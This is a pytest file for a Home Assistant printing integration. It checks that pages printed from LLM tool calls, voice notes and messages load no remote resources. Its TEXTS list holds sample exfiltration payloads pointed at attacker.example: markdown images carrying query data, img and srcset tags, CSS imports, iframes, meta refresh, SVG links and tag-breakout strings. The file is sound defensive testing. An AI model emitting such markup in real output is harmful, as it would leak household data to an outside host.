"""Texts of models, voice and messages, which make nobody fetch an address.

What renders a page loads what it refers to: with an address of its own, a text could
send away what a model or a template knows of the home.
"""

from collections.abc import Iterator
from dataclasses import dataclass
from datetime import timedelta
import re
from typing import Any, Final

from bs4 import BeautifulSoup
import pytest

from custom_components.cloudprint.const import DOMAIN, EntityKey
from custom_components.cloudprint.coordinator import get_printer_name
from homeassistant.components.homeassistant.exposed_entities import async_expose_entity
from homeassistant.const import Platform
from homeassistant.core import Context, HomeAssistant
from homeassistant.helpers import intent, llm
from homeassistant.setup import async_setup_component
from homeassistant.util import dt as dt_util

from .actions import call
from .hub import Hub
from .simulator import CloudSimulator
from .source.pages.test_agenda import CALENDAR, add_calendar, timed
from .source.pages.test_checklist import LIST, add_list
from .subentries import add_subentry

AWAY: Final = "attacker.example"
PIXEL: Final = "data:image/png;base64,iVBORw0KGgo="
SVG: Final = f"data:image/svg+xml,%3Csvg%3E%3Cimage%20href='//{AWAY}'/%3E%3C/svg%3E"
TEXTS: Final = (
    f"![.](https://{AWAY}/c?alarm=4711)",
    f"![a **loud** ![b](http://{AWAY}/in)](https://{AWAY}/out 'title')",
    f"![ref][1] ![1] [shop][1]\n\n[1]: https://{AWAY}/d",
    f"[shop](https://{AWAY}/e) <https://{AWAY}/f> https://{AWAY}/g",
    f"[![linked](https://{AWAY}/h)](https://{AWAY}/i)",
    f"| a |\n|-|\n| ![cell](//{AWAY}/j) |",
    f"# ![head](HTTPS://{AWAY}/k)\n- [ ] ![task](https://{AWAY}/l)\n> ![q](ftp://{AWAY})",
    f"![drawn](<{SVG}>) ![drawn]({SVG})",
    f'<img src="https://{AWAY}/m" srcset="https://{AWAY}/n 2x"><br><b>x</b>',
    f"<style>@import '//{AWAY}/o'; p {{background: url(https://{AWAY}/p)}}</style>",
    f'<p style="background: url(https://{AWAY}/q)">x</p><base href="//{AWAY}">',
    f'<link rel="stylesheet" href="https://{AWAY}/r"><script src="//{AWAY}/s"></script>',
    f'<iframe src="https://{AWAY}/t"></iframe><object data="https://{AWAY}/u"></object>',
    f'<meta http-equiv="refresh" content="0;url=https://{AWAY}/v">',
    f'<svg><image href="https://{AWAY}/w"/><use href="https://{AWAY}/x#y"/></svg>',
    f"&lt;img src=https://{AWAY}/y&gt; \\<img src=//{AWAY}/z>",
    f"</title></style></main><img src=//{AWAY}/0><!-- ",
)
"""Ways to refer to something elsewhere, by which a page could load it."""
SOURCES: Final = (
    *("src", "srcset", "href", "xlink:href", "data", "poster", "background", "content"),
    *("action", "formaction", "ping", "style"),
)
_LOADED: Final = re.compile(r"url\s*\(|@import|image-set|//", re.IGNORECASE)


def loads(page: str) -> Iterator[str]:
    """Yield what a page loads, but for pictures of pixels that are in it."""
    soup = BeautifulSoup(page, "html.parser")
    for tag in soup.find_all(True):
        for name in SOURCES:
            value = str(tag.get(name, ""))
            is_inside = value.startswith("data:image/png;")
            if tag.name in ("a", "base", "link", "script") or (
                value and not is_inside and (name != "style" or _LOADED.search(value))
            ):
                yield f"{tag.name} {name} {value}"
        if tag.name == "style" and _LOADED.search(tag.get_text()):
            yield tag.get_text()


@dataclass(frozen=True, kw_only=True)
class House:
    """A house with a printer, in which models, voice and messages print."""

    hass: HomeAssistant
    simulator: CloudSimulator
    printer: str
    device_id: str
    notify: str

    async def tell(self, **fields: Any) -> str:
        """Let a model print; return the page."""
        context = llm.LLMContext(
            platform="test",
            context=Context(),
            language="en",
            assistant="conversation",
            device_id=None,
        )
        api = await llm.async_get_api(self.hass, "assist", context)
        fields["printer"] = self.printer
        await api.async_call_tool(
            llm.ToolInput(tool_name="cloudprint__print", tool_args=fields)
        )
        return self.take()

    async def note(self, text: str) -> str:
        """Print a note by voice; return the page."""
        slots = {"text": {"value": text}, "printer": {"value": self.printer}}
        await intent.async_handle(self.hass, DOMAIN, "CloudPrintPrintNote", slots)
        return self.take()

    async def send(self, text: str) -> str:
        """Print a message; return the page."""
        fields = {"entity_id": self.notify, "message": text, "title": text}
        await self.hass.services.async_call(
            "notify", "send_message", fields, blocking=True
        )
        return self.take()

    async def print(self, **fields: Any) -> str:
        """Print as an automation does; return the page."""
        await call(self.hass, "print", device_id=self.device_id, **fields)
        return self.take()

    def take(self) -> str:
        """Return and forget the only page that was printed."""
        (job,) = self.simulator.printed
        assert job.media_format == "HTML"
        self.simulator.forget()
        return job.content.decode()


@pytest.fixture
async def assist_house(hass: HomeAssistant, hub: Hub) -> House:
    """Set up a house with conversation."""
    for component in ("homeassistant", "conversation"):
        assert await async_setup_component(hass, component, {})
    hub.simulator.forget()
    return House(
        hass=hass,
        simulator=hub.simulator,
        printer=get_printer_name(hass, hub.device_id),
        device_id=hub.device_id,
        notify=hub.entity_id(Platform.NOTIFY, EntityKey.PRINT_MESSAGE),
    )


async def test_model(assist_house: House) -> None:
    """A model prints a text without what it refers to."""
    for text in TEXTS:
        page = await assist_house.tell(text=f"{text}\n\nend", title=text)
        assert list(loads(page)) == []
        assert "end" in BeautifulSoup(page, "html.parser").get_text()


async def test_pictures_of_a_model(assist_house: House) -> None:
    """A remote picture is its alternative text; one in the text itself is printed."""
    page = await assist_house.tell(
        text=f"see ![the *best* cat](https://{AWAY}/a), ![](https://{AWAY}/b)"
        f" [shop](https://{AWAY}/c) ![dot]({PIXEL}) ![drawn]({SVG})"
    )
    soup = BeautifulSoup(page, "html.parser")
    assert soup.main is not None
    words = " ".join(soup.main.get_text().split())
    assert words == f"see the best cat, shop (https://{AWAY}/c) drawn"
    assert [picture["src"] for picture in soup.find_all("img")] == [PIXEL]


async def test_messages_and_notes(assist_house: House) -> None:
    """Messages and notes by voice are printed as they are."""
    for text in TEXTS:
        for page in (await assist_house.note(text), await assist_house.send(text)):
            assert list(loads(page)) == []
            main = BeautifulSoup(page, "html.parser").main
            assert main is not None
            assert text in main.get_text()


async def test_lists_and_calendars(hass: HomeAssistant, assist_house: House) -> None:
    """What a model wrote into a list or calendar is text, whoever prints that."""
    texts = [text.replace("\n", " ") for text in TEXTS]
    await add_list(hass, *({"item": text, "description": text} for text in texts))
    now = dt_util.now()
    times = [(now + timedelta(hours=hours)).isoformat() for hours in (1, 2)]
    await add_calendar(hass, *(timed(text, *times, location=text) for text in texts))
    async_expose_entity(hass, "conversation", LIST, True)
    for page in (
        await assist_house.print(entity=LIST),
        await assist_house.print(entity=CALENDAR, days=3),
        await assist_house.tell(list_name="Chores"),
    ):
        assert list(loads(page)) == []
        assert page.count(AWAY) > len(TEXTS)


async def test_automations_and_saved_documents(hub: Hub, assist_house: House) -> None:
    """These have the pictures that a person put into them, whoever asks for them."""
    markdown = "![map](https://example.com/map.png)"
    add_subentry(hub.hass, hub.account, "document", "Map", markdown=markdown)
    await hub.hass.async_block_till_done()
    for page in (
        await assist_house.print(markdown=markdown),
        await assist_house.tell(document="Map"),
    ):
        assert '<img src="https://example.com/map.png" alt="map">' in page
